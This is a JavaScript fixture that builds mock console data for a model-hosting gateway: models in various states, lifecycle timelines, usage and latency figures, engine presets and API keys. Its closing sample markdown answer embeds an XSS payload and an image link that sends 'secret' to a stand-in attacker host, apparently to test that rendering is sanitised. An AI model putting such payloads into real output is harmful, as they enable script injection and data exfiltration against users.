// A small world for looking at the console: the shapes of the gateway's contract, times around now.
const ago = (seconds) => new Date(Date.now() - seconds * 1000).toISOString();
const ahead = (seconds) => ago(-seconds);

const model = (name, state, more = {}) => ({
  name,
  uid: `uid-${name}`,
  owner: 'alice',
  engine: 'ollama',
  source: 'ollama://tinyllama:1.1b-chat',
  compute: 'cpu',
  minReplicas: 0,
  maxReplicas: 1,
  targetRequests: 8,
  idleTimeout: '5m',
  contextLength: 2048,
  sharedWith: [],
  suspended: false,
  state,
  replicas: {
    desired: state === 'active' || state === 'launching' ? 1 : 0,
    ready: state === 'active' ? 1 : 0,
  },
  createdAt: ago(86_400),
  ...more,
});

export const world = () => ({
  me: { id: 'alice', name: 'alice', roles: ['user'], groups: ['corral-user', 'team-a'] },
  models: [
    model('tiny', 'active', {
      phase: 'ready',
      lastUsed: ago(48),
      idleAt: ahead(252),
      sharedWith: ['team-a'],
    }),
    model('support-answers', 'launching', {
      phase: 'weights',
      etaSeconds: 9,
      createdAt: ago(6),
      source: 'ollama://qwen3:0.6b',
    }),
    model('minutes-of-meetings', 'idle', {
      lastUsed: ago(5400),
      source: 'ollama://smollm2:1.7b',
      owner: 'bob',
      sharedWith: ['team-a'],
    }),
    model('big-one', 'failed', {
      reason: 'OutOfMemory',
      message: 'The engine was killed: out of memory.',
      source: 'ollama://llama3.1:8b',
    }),
    model('old-trial', 'terminated', { createdAt: ago(200_000), lastUsed: ago(150_000) }),
  ],
  summary: {
    models: { launching: 1, active: 1, idle: 1, terminating: 0, terminated: 1, failed: 1 },
    apps: { launching: 0, active: 0, idle: 0, terminating: 0, terminated: 0, failed: 0 },
    asOf: ago(1),
  },
  timeline: [
    {
      id: '01A',
      uid: 'u',
      at: ago(86_400),
      from: 'none',
      to: 'launching',
      message: 'Accepted',
      principal: 'alice',
    },
    { id: '01B', uid: 'u', at: ago(86_399.6), from: 'launching', to: 'launching', phase: 'waiting_capacity' },
    { id: '01C', uid: 'u', at: ago(86_399.3), from: 'launching', to: 'launching', phase: 'node_launching' },
    { id: '01D', uid: 'u', at: ago(86_398.6), from: 'launching', to: 'launching', phase: 'image_pull' },
    { id: '01E', uid: 'u', at: ago(86_397.4), from: 'launching', to: 'launching', phase: 'weights' },
    { id: '01F', uid: 'u', at: ago(86_395.2), from: 'launching', to: 'launching', phase: 'warm_up' },
    { id: '01G', uid: 'u', at: ago(86_394.7), from: 'launching', to: 'active', phase: 'ready' },
    { id: '01H', uid: 'u', at: ago(86_094), from: 'active', to: 'idle', message: 'Nobody asked for 5 min' },
    { id: '01I', uid: 'u', at: ago(55), from: 'idle', to: 'launching', principal: 'alice' },
    { id: '01J', uid: 'u', at: ago(49), from: 'launching', to: 'active', phase: 'ready' },
  ],
  receipt: [
    { id: '02A', uid: 'v', at: ago(150_000), from: 'idle', to: 'terminating', principal: 'alice' },
    {
      id: '02B',
      uid: 'v',
      at: ago(149_998),
      from: 'terminating',
      to: 'terminated',
      principal: 'alice',
      receipt: {
        removed: ['Deployment/model-old-trial', 'Service/model-old-trial'],
        runSeconds: 4210,
        launchedAt: ago(200_000),
        terminatedAt: ago(149_998),
      },
    },
  ],
  usage: {
    from: ago(86_400),
    to: ago(0),
    groupBy: 'model',
    items: [
      {
        key: 'tiny',
        requests: 128,
        tokensIn: 8121,
        tokensOut: 21_940,
        estimatedRequests: 0,
        errors: 1,
        cancelled: 3,
        unknown: 0,
        coldStarts: 4,
      },
      {
        key: 'minutes-of-meetings',
        requests: 17,
        tokensIn: 30_222,
        tokensOut: 5120,
        estimatedRequests: 0,
        errors: 0,
        cancelled: 0,
        unknown: 0,
        coldStarts: 2,
      },
    ],
    totals: {
      requests: 145,
      tokensIn: 38_343,
      tokensOut: 27_060,
      estimatedRequests: 0,
      errors: 1,
      cancelled: 3,
      unknown: 0,
      coldStarts: 6,
    },
  },
  latency: {
    items: [
      {
        model: 'tiny',
        requests: 128,
        ttftMs: { avg: 60, p50: 41, p95: 7120 },
        generationMs: { avg: 140, p50: 121, p95: 400 },
        tokensPerSecond: 812.4,
      },
      {
        model: 'minutes-of-meetings',
        requests: 17,
        ttftMs: { avg: 900, p50: 310, p95: 9150 },
        generationMs: { avg: 4000, p50: 3720, p95: 9000 },
        tokensPerSecond: 42.3,
      },
    ],
  },
  catalog: {
    notice:
      'This Corral answers with its tiny demo model (3 million weights): it knows a little about Corral and nothing else.',
    appTypes: [],
    engines: [
      {
        name: 'ollama',
        title: 'Ollama',
        description: 'Runs quantised models on CPU or GPU; the easiest start.',
        available: true,
      },
      {
        name: 'vllm',
        title: 'vLLM',
        description: 'High throughput on GPUs.',
        available: false,
        reason: 'Needs a GPU pool, which comes in a later release.',
      },
    ],
    computes: [{ name: 'cpu', title: 'CPU', description: 'Shared CPU nodes.', available: true }],
    presets: [
      {
        name: 'tinyllama',
        title: 'TinyLlama 1.1B Chat',
        engine: 'ollama',
        source: 'ollama://tinyllama:1.1b-chat',
        parameters: '1.1B',
        sizeGb: 0.64,
        licence: 'Apache-2.0',
        contextLength: 2048,
        fits: ['cpu'],
        notes: 'Small and quick; good to try everything with.',
      },
      {
        name: 'qwen3-0-6b',
        title: 'Qwen3 0.6B',
        engine: 'ollama',
        source: 'ollama://qwen3:0.6b',
        parameters: '0.6B',
        sizeGb: 0.52,
        licence: 'Apache-2.0',
        contextLength: 32_768,
        fits: ['cpu'],
      },
    ],
  },
  keys: [
    {
      id: 'ab12cd34ef56',
      name: 'Laptop scripts',
      models: ['*'],
      dialects: ['openai', 'ollama'],
      createdAt: ago(9000),
      expiresAt: ahead(2_000_000),
    },
    {
      id: 'zz98yy76xx54',
      name: 'Continuous integration',
      models: ['tiny'],
      dialects: ['openai'],
      createdAt: ago(900_000),
      expiresAt: ago(1000),
    },
  ],
});

export const ANSWER = `Corral launches **private language models** on your own account.

1. *Launch*: choose a model and give it a name.
2. *Chat*: a question wakes it when it is idle.

\`\`\`python
from openai import OpenAI
client = OpenAI(base_url="http://localhost:8080/v1")
\`\`\`

| state | costs |
|---|---|
| active | yes |
| idle | no |

<img src=x onerror=alert(1)> ![spy](https://evil.example/?q=secret) [docs](https://example.com/docs)
`;
